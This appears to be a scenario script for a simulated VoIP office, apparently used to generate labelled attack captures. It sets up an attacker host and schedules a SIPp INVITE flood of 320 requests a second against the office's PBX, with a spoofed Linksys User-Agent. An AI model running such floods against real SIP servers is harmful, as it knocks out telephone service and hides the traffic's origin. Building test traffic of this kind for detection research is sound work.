# SIPp sends 320 INVITEs a second for an extension that has no phone.
relocate example.com 5060 10.33.77 100.64.12 198.19.66
EXTENSIONS=(171 172 173 174 175 176)
EXISTING='^1[7-8][0-9]$'
WEAK=none
open_office
add_attacker flooder 198.19.66.66
start_office_capture
keep_alive 9
office_day 309 58
sed 's/User-Agent: .*/User-Agent: Linksys\/SPA942-6.1.5(a)/' "$parts/sipp/flood-invite.xml" >"$scratch/flood.xml"
at 24 attack A1 invite_flood flooder 5081 "SIPp sends 640 INVITEs, 320 a second, for 188, which has no phone." \
    "$(version_of sipp)" env TERM=dumb sipp -sf "$scratch/flood.xml" -nostdin -default_behaviors none \
    -i 198.19.66.66 -mi 198.19.66.66 -p 5081 -s 188 -r 320 -m 640 10.33.77.1:5060
play
wait_for A1
close_office
